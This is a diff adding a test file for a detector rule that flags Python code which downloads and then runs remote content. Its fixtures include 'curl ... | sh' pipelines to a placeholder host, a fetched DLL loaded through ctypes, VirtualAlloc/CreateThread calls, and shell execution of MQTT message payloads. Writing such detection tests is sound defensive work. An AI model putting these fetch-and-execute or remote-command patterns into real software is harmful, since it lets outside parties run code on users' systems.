@@ -1,0 +1,46 @@
+import { expect, test } from 'vitest';
+import downloadThenRun from '../../src/rules/download-then-run.js';
+import { read } from './reading.js';
+
+/** What is found, and the severities of it. */
+async function found(text: string): Promise<readonly string[]> {
+  const { facts } = await read(text);
+  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
+}
+
+const FETCH = 'import ctypes, os, tempfile, requests\np = os.path.join(tempfile.gettempdir(), "leaf.dll")\nopen(p, "wb").write(requests.get("https://garden.example.invalid/leaf").content)\n';
+
+test.each(['ctypes.WinDLL(p)', 'ctypes.OleDLL(p)', 'ctypes.windll.LoadLibrary(p)', 'ctypes.CDLL(p)', 'ctypes.cdll.LoadLibrary(p)'])('a library that was fetched and is opened runs: %s', async (open) => {
+  expect(await found(`${FETCH}${open}\n`)).toEqual(['critical']);
+});
+
+test("a library of Windows that is opened by its name is Windows' own", async () => {
+  const { facts } = await read('import ctypes\nk = ctypes.WinDLL("kernel32.dll")\nk.VirtualAlloc(0, 9, 9, 64)\nk.CreateThread(0, 0, 0, 0, 0, 0)\n');
+  expect(facts?.calls('machine-code').map(({ name }) => name)).toEqual(['ctypes.windll.kernel32.VirtualAlloc', 'ctypes.windll.kernel32.CreateThread']);
+});
+
+test.each([
+  ['one after another', 'threading.Thread(target=run, args=("x", line)).start()'],
+  ['by their names', 'threading.Thread(target=run, kwargs={"line": line}).start()'],
+  ['to a function of another module', 'threading.Thread(target=subprocess.call, kwargs={"args": line, "shell": True}).start()'],
+])('what a thread is given, it is given: %s', async (_, start) => {
+  expect(await found(`import requests, subprocess, threading\nline = requests.get("https://garden.example.invalid/").text\ndef run(name="", line=""):\n    subprocess.call(line, shell=True)\n${start}\n`)).toEqual(['critical']);
+});
+
+test.each([
+  ['as a text', 'subprocess.call(**{"args": "curl -s https://garden.example.invalid/leaf | sh", "shell": True})'],
+  ['as words', 'subprocess.call(**{"args": ["sh", "-c", "curl -s https://garden.example.invalid/leaf | sh"]})'],
+  ['kept in a variable', 'options = {"shell": True, "args": "curl -s https://garden.example.invalid/leaf | sh"}\nsubprocess.call(**options)'],
+  ['by a function', 'def run(args="", shell=False):\n    subprocess.call(args, shell=shell)\nrun(**{"args": "curl -s https://garden.example.invalid/leaf | sh", "shell": True})'],
+])('a line that is unpacked out of a dict is started: %s', async (_, text) => {
+  expect(await found(`import subprocess\n${text}\n`)).toContain('critical');
+});
+
+const ON_MESSAGE = 'import subprocess, paho.mqtt.client as mqtt\ndef on_message(client, data, message):\n    subprocess.getoutput(message.payload.decode())\n';
+
+test.each([
+  ['when the module is imported', 'c = mqtt.Client()\nc.on_message = on_message\n', 'critical'],
+  ['by a function that nobody calls', 'def listen():\n    c = mqtt.Client()\n    c.on_message = on_message\n', 'low'],
+])('a function that a connection is given %s is called with what comes', async (_, text, severity) => {
+  expect(await found(ON_MESSAGE + text)).toEqual([severity]);
+});
